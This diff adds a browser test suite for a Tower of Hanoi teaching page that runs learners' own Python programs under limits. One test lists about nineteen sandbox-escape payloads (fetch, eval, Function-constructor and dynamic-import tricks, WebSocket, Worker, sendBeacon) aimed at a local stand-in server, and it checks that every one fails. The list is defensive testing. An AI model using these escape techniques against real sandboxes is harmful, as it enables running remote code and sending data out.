@@ -1,0 +1,177 @@
+// A program of the learner's own runs in the page, with limits, and reaches nothing but the board. Three engines.
+import assert from "node:assert/strict";
+import { createServer } from "node:http";
+import { after, before } from "node:test";
+import { inEachEngine, until } from "./engines.mjs";
+
+const panel = "&show=towers,transport,scrubber,python";
+const editor = "textarea[name=own-program]";
+const run = "[data-run]";
+const read = (selector, what = "textContent") => `document.querySelector(${JSON.stringify(selector)})?.${what}`;
+const position = read("svg[data-position]", "dataset.position");
+const state = read(run, "dataset.run");
+const textbook = `def hanoi(n, source, target, spare):
+    if n == 0: return
+    hanoi(n - 1, source, spare, target)
+    move(source, target)
+    hanoi(n - 1, spare, target, source)
+
+hanoi(discs(), "A", "C", "B")
+`;
+
+// A server that hostile programs try to reach.
+let reached = 0;
+const elsewhere = createServer((_, response) => {
+  reached += 1;
+  response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" }).end("1");
+});
+before(() => new Promise((done) => elsewhere.listen(0, "127.0.0.1", done)));
+after(() => {
+  elsewhere.close();
+  elsewhere.closeAllConnections();
+});
+
+inEachEngine((browser, server, test) => {
+  const open = async (query, code) => {
+    await browser.open(`${server.address}${query}${panel}${code === undefined ? "" : `&code=${encodeURIComponent(code)}`}`);
+    await until(browser, `${read(editor, "value")} !== undefined`);
+  };
+  /** Puts a text in the editor. */
+  const enter = async (code) => {
+    await browser.read(`(() => {
+      const field = document.querySelector("${editor}");
+      field.value = ${JSON.stringify(code)};
+      field.dispatchEvent(new InputEvent("input", { bubbles: true }));
+    })()`);
+    await until(browser, `${state} === "none"`);
+  };
+  /** Runs the program and returns how it ended. */
+  const ended = async () => {
+    await browser.click("[data-command=run-own-program]");
+    await until(browser, `!["none", "loading", "running"].includes(${state})`, 15_000);
+    return browser.read(state);
+  };
+
+  test("the textbook program solves ten discs, and its moves can be gone through", async () => {
+    await open("?discs=10");
+    // Pasted, because the editor would indent what is typed once more.
+    await enter(textbook);
+    await until(browser, `${read(editor, "value")}.includes("spare, target, source")`);
+    assert.equal(await ended(), "finished");
+    assert.equal(await browser.read(position), "2".repeat(10));
+    assert.match(await browser.read(read(run)), /1,?023/);
+    await until(browser, `location.search.includes("code=def")`);
+    await browser.read(`(() => {
+      const slider = document.querySelector("[name=own-moves]");
+      slider.value = 511;
+      slider.dispatchEvent(new Event("input", { bubbles: true }));
+    })()`);
+    await until(browser, `${position} === "0${"1".repeat(9)}"`);
+  });
+
+  test("a link holds the program and does not run it", async () => {
+    await open("?discs=3", 'move("A", "C")\nprint(pegs(), top("C"), top("B"))\n');
+    assert.equal(await browser.read(state), "none");
+    assert.equal(await browser.read(position), "000");
+    assert.equal(await ended(), "finished");
+    assert.equal(await browser.read(position), "002");
+    assert.equal(await browser.read(read(".output pre")), "[[3, 2], [], [1]] 1 None\n");
+  });
+
+  test("a move that is not legal stops at its line with the reason", async () => {
+    await open("?discs=3", 'move("A", "B")\nx = 1\nmove("A", "B")\nmove("A", "C")\n');
+    assert.equal(await ended(), "illegal");
+    assert.equal(await browser.read(read(".editor [data-error]")), "✗ 3");
+    assert.match(await browser.read(read(run)), /3: .*1.*B/);
+    assert.equal(await browser.read(position), "001");
+  });
+
+  test("errors of Python have their line", async () => {
+    await open("?discs=3");
+    for (const [code, line, error] of [
+      ["x = 1\nfoo()\n", 2, /NameError/],
+      ["def f(n):\n    return f(n + 1)\nf(0)\n", 2, /RuntimeError/],
+      ["if 1:\nmove()\n", 2, /SyntaxError|IndentationError/],
+      ['move("A", "Z")\n', 1, /ValueError/],
+      ["a = [0]\nwhile True:\n    a = a + a\n", 3, /MemoryError/],
+    ]) {
+      await enter(code);
+      assert.equal(await ended(), "failed", code);
+      assert.equal(await browser.read(read(".editor [data-error]")), `✗ ${line}`, code);
+      assert.match(await browser.read(read(run)), error);
+    }
+  });
+
+  test("a program without end is stopped, by itself or by hand, and the page answers meanwhile", async () => {
+    await open("?discs=3", "while True: pass\n");
+    await browser.click("[data-command=run-own-program]");
+    await until(browser, `${state} === "running"`, 15_000);
+    await browser.click("[data-command=stop-own-program]");
+    await until(browser, `${state} === "stopped"`);
+    await browser.click("[data-command=run-own-program]");
+    await until(browser, `${state} === "running"`, 15_000);
+    await browser.click("[data-command=next]");
+    await until(browser, `${read("svg[data-index]", "dataset.index")} === "1"`);
+    await until(browser, `${state} === "timed-out"`);
+    await open("?discs=3", 'while True:\n    move("A", "B")\n    move("B", "A")\n');
+    assert.equal(await ended(), "too-many-moves");
+  });
+
+  test("hostile programs reach neither the page nor the network", async () => {
+    const address = `http://127.0.0.1:${elsewhere.address().port}/x.js`;
+    await open("?discs=3");
+    for (const code of [
+      `import js\njs.fetch("${address}")`,
+      `import js\njs.eval("fetch('${address}')")`,
+      `import js\njs.Function("fetch('${address}')")()`,
+      `import js\njs.Object.constructor("import('${address}')")()`,
+      `import js\njs.Object.keys.constructor("import('${address}')")()`,
+      `import js\njs.Reflect.getPrototypeOf(js.Object).constructor("import('${address}')")()`,
+      `import js\njs.importScripts("${address}")`,
+      `import js\njs.XMLHttpRequest.new().open("GET", "${address}")`,
+      `import js\njs.WebSocket.new("${address}".replace("http", "ws"))`,
+      `import js\njs.Worker.new("${address}")`,
+      `import js\njs.setTimeout("import('${address}')", 0)`,
+      `import js\njs.navigator.sendBeacon("${address}")`,
+      `import js\njs.postMessage(js.Array("finished"))`,
+      `import js\njs.self.postMessage(js.Array("finished"))`,
+      `import js\njs.indexedDB.open("x")`,
+      `import js\njs.caches.open("x")`,
+      `import js\njs.hanoiPython("1", "ABC", [])`,
+      `import _board\n_board.move.constructor("import('${address}')")()`,
+      `import jsffi\njsffi.create_proxy(print).constructor("import('${address}')")()`,
+    ]) {
+      await enter(code);
+      assert.equal(await ended(), "failed", code);
+      assert.equal(await browser.read(position), "000");
+      assert.equal((await browser.read(read(".output pre"))) ?? "", "", code);
+    }
+    await new Promise((done) => setTimeout(done, 300));
+    assert.equal(reached, 0);
+  });
+
+  test("keys indent, run the program and leave the editor", async () => {
+    await open("?discs=3", "for i in range(3):");
+    await browser.read(`(() => { const field = document.querySelector("${editor}"); field.focus(); field.setSelectionRange(18, 18); })()`);
+    await browser.key("Enter");
+    await until(browser, `${read(editor, "value")} === "for i in range(3):\\n    "`);
+    await browser.key("Enter");
+    await until(browser, `${read(editor, "value")}.endsWith("\\n    \\n    ")`);
+    await browser.key("Tab");
+    await until(browser, `document.activeElement.dataset.command === "run-own-program"`);
+  });
+
+  test("a program to begin with takes no text away", async () => {
+    await open("?discs=3", "print('mine')");
+    await browser.read(`(() => {
+      const list = document.querySelector("[name=starter]");
+      list.value = "recursion";
+      list.dispatchEvent(new Event("change", { bubbles: true }));
+    })()`);
+    await until(browser, `${read(editor, "value")}.includes("def hanoi")`);
+    assert.equal(await ended(), "finished");
+    assert.equal(await browser.read(position), "222");
+    await browser.click("[data-command=restore-own-program]");
+    await until(browser, `${read(editor, "value")} === "print('mine')"`);
+  });
+});
